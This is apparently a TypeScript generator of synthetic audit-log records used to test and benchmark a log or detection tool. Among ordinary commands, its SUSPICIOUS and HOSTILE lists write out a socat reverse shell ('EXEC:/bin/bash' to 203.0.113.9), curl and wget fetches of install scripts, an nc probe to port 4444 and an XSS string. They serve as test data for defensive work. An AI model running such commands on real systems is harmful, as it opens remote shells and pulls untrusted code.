/**
 * Realistic synthetic audit logs (E1 lines and S1 stats records) for tests,
 * the demo and benchmarks: shells, cron, services, package tools, a little
 * rare and suspicious activity (curl, wget, nc, base64), and hostile argv
 * (tabs, newlines, invalid UTF-8, HTML). Deterministic for a given seed.
 *
 * @module
 */

import {
  encodeExec,
  encodeStats,
  type ExecEvent,
  isoFromNs,
  utf8Length,
} from "../../scripts/logformat/mod.ts";

/** Options of {@link synthLines}. */
export interface SynthOptions {
  /** time of the first event, ns since the epoch (string) */
  startNs: string;
  /** events */
  count: number;
  /** mean gap between events, ms. @default 200 */
  meanGapMs?: number;
  /** PRNG seed. @default 1 */
  seed?: number;
  /** share of events with hostile argv. @default 0.01 */
  hostileShare?: number;
  /** share of suspicious tools (curl, wget, nc, ...). @default 0.02 */
  suspiciousShare?: number;
  /** a stats record every this many ns of log time. @default 60 s */
  statsEveryNs?: bigint;
}

/** A small fast PRNG (mulberry32). */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface Pattern {
  parent: string;
  comm: string;
  path: string;
  args: (r: () => number) => string[];
  uid?: number;
  weight: number;
}

const pick = <T>(r: () => number, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)];
const FILES = [
  "/etc/hosts",
  "/var/log/syslog",
  "/home/alice/notes.txt",
  "/srv/app/config.yml",
  "/tmp/x",
];
const HOSTS = ["example.com", "10.0.0.7", "mirror.internal", "203.0.113.9"];

const NORMAL: Pattern[] = [
  {
    parent: "bash",
    comm: "ls",
    path: "/usr/bin/ls",
    args: (r) => ["ls", pick(r, ["-la", "-l", "-1"]), pick(r, FILES)],
    weight: 20,
  },
  {
    parent: "bash",
    comm: "cat",
    path: "/usr/bin/cat",
    args: (r) => ["cat", pick(r, FILES)],
    weight: 12,
  },
  {
    parent: "bash",
    comm: "grep",
    path: "/usr/bin/grep",
    args: (r) => ["grep", "-i", pick(r, ["error", "warn", "timeout"]), pick(r, FILES)],
    weight: 10,
  },
  {
    parent: "cron",
    comm: "sh",
    path: "/bin/sh",
    args: (
      r,
    ) => [
      "/bin/sh",
      "-c",
      pick(r, [
        "run-parts /etc/cron.hourly",
        "/usr/local/bin/backup --quiet",
        "logrotate /etc/logrotate.conf",
      ]),
    ],
    uid: 0,
    weight: 8,
  },
  {
    parent: "sh",
    comm: "run-parts",
    path: "/usr/bin/run-parts",
    args: () => ["run-parts", "/etc/cron.hourly"],
    uid: 0,
    weight: 4,
  },
  { parent: "sshd", comm: "bash", path: "/usr/bin/bash", args: () => ["-bash"], weight: 3 },
  {
    parent: "systemd",
    comm: "systemctl",
    path: "/usr/bin/systemctl",
    args: (r) => ["systemctl", "is-active", pick(r, ["nginx", "postgresql", "cron"])],
    uid: 0,
    weight: 6,
  },
  {
    parent: "python3",
    comm: "python3",
    path: "/usr/bin/python3",
    args: (r) => ["python3", "/srv/app/worker.py", `--job=${Math.floor(r() * 1e6)}`],
    uid: 33,
    weight: 8,
  },
  {
    parent: "make",
    comm: "cc",
    path: "/usr/bin/cc",
    args: (r) => ["cc", "-O2", "-c", `src/mod${Math.floor(r() * 90)}.c`, "-o", "build/x.o"],
    weight: 6,
  },
  {
    parent: "apt-get",
    comm: "dpkg",
    path: "/usr/bin/dpkg",
    args: () => ["dpkg", "--status-fd", "23", "--configure", "--pending"],
    uid: 0,
    weight: 2,
  },
  {
    parent: "node",
    comm: "git",
    path: "/usr/bin/git",
    args: (r) => ["git", pick(r, ["status", "fetch", "log"]), "--porcelain"],
    weight: 6,
  },
  { parent: "bash", comm: "ps", path: "/usr/bin/ps", args: () => ["ps", "aux"], weight: 4 },
];

const SUSPICIOUS: Pattern[] = [
  {
    parent: "bash",
    comm: "curl",
    path: "/usr/bin/curl",
    args: (r) => ["curl", "-fsSL", `https://${pick(r, HOSTS)}/install.sh`],
    weight: 5,
  },
  {
    parent: "python3",
    comm: "wget",
    path: "/usr/bin/wget",
    args: (r) => ["wget", "-q", `http://${pick(r, HOSTS)}/x`],
    uid: 33,
    weight: 3,
  },
  {
    parent: "sh",
    comm: "nc",
    path: "/usr/bin/nc",
    args: (r) => ["nc", "-z", "-w", "2", pick(r, HOSTS), "4444"],
    uid: 33,
    weight: 1,
  },
  {
    parent: "bash",
    comm: "base64",
    path: "/usr/bin/base64",
    args: () => ["base64", "-d"],
    weight: 3,
  },
  {
    parent: "cron",
    comm: "ncat",
    path: "/usr/bin/ncat",
    args: (r) => ["ncat", pick(r, HOSTS), "443"],
    uid: 0,
    weight: 1,
  },
  {
    parent: "bash",
    comm: "socat",
    path: "/usr/bin/socat",
    args: () => ["socat", "TCP:203.0.113.9:80", "EXEC:/bin/bash"],
    weight: 1,
  },
];

const HOSTILE: ((r: () => number) => string[])[] = [
  () => ["echo", "tab\there", "new\nline"],
  () => ["printf", "<script>alert(1)</script>", "&amp;\"'"],
  () => ["sh", "-c", "x\udcff\udcfe bytes"],
  () => ["env", "PASSWORD=[redacted]", "", "."],
  (r) => ["awk", "x".repeat(200 + Math.floor(r() * 2000))],
];

function weighted(r: () => number, ps: Pattern[]): Pattern {
  let total = 0;
  for (const p of ps) total += p.weight;
  let x = r() * total;
  for (const p of ps) if ((x -= p.weight) < 0) return p;
  return ps[ps.length - 1];
}

const BOOT = "5b1c0e6a2f9d4c3e8a7b6c5d4e3f2a1b";

/** Lines (without "\n") of a synthetic log, in time order. */
export function* synthLines(o: SynthOptions): Generator<string> {
  const r = prng(o.seed ?? 1);
  const gapNs = (o.meanGapMs ?? 200) * 1e6;
  const hostile = o.hostileShare ?? 0.01;
  const suspicious = o.suspiciousShare ?? 0.02;
  const statsEvery = o.statsEveryNs ?? 60_000_000_000n;
  let t = BigInt(o.startNs);
  let nextStats = t;
  let pid = 1000 + Math.floor(r() * 1000);
  const seq = [0, 0];
  for (let i = 0; i < o.count; i++) {
    t += BigInt(Math.max(1, Math.floor(-Math.log(1 - r()) * gapNs)));
    if (t >= nextStats) {
      yield encodeStats(String(nextStats), BOOT, "interval", {
        events: i,
        ring_lost: 0,
        write_lost: 0,
      });
      nextStats += statsEvery;
    }
    const p = r() < suspicious ? weighted(r, SUSPICIOUS) : weighted(r, NORMAL);
    const argv = r() < hostile ? pick(r, HOSTILE)(r) : p.args(r);
    const cpu = r() < 0.5 ? 0 : 1;
    pid += 1 + Math.floor(r() * 5);
    if (pid > 4_000_000) pid = 1000;
    const uid = p.uid ?? (r() < 0.8 ? 1000 + Math.floor(r() * 10) : 0);
    const failed = r() < 0.01;
    const ev: ExecEvent = {
      type: "exec",
      version: 1,
      time_ns: String(t),
      time: isoFromNs(String(t)),
      boot_id: BOOT,
      cpu,
      seq: seq[cpu]++,
      pid,
      ppid: Math.max(1, pid - 1 - Math.floor(r() * 50)),
      tid: pid,
      start_ns: String(t - 1000n),
      pstart_ns: String(t - 5_000_000_000n),
      uid,
      gid: uid,
      euid: uid,
      egid: uid,
      auid: uid === 0 ? null : uid,
      ses: uid === 0 ? null : 3,
      tty: p.parent === "bash" ? "pts0" : "",
      cgroup_id: "4242",
      syscall: "execve",
      ret: failed ? -2 : 0,
      flags: failed ? 0x01 : 0,
      comm: p.comm,
      pcomm: p.parent,
      filename: p.path,
      cwd: "",
      argc: argv.length,
      arg_bytes: 0,
      argv_captured: argv.length,
      argv_captured_bytes: 0,
      argv,
    };
    const bytes = argv.reduce((n, a) => n + utf8Length(a) + 1, 0);
    ev.arg_bytes = ev.argv_captured_bytes = bytes;
    yield encodeExec(ev);
  }
}

/** A whole synthetic log as bytes ("\n" after every line). */
export function synthLog(o: SynthOptions): Uint8Array {
  const parts: string[] = [];
  for (const l of synthLines(o)) parts.push(l, "\n");
  return new TextEncoder().encode(parts.join(""));
}
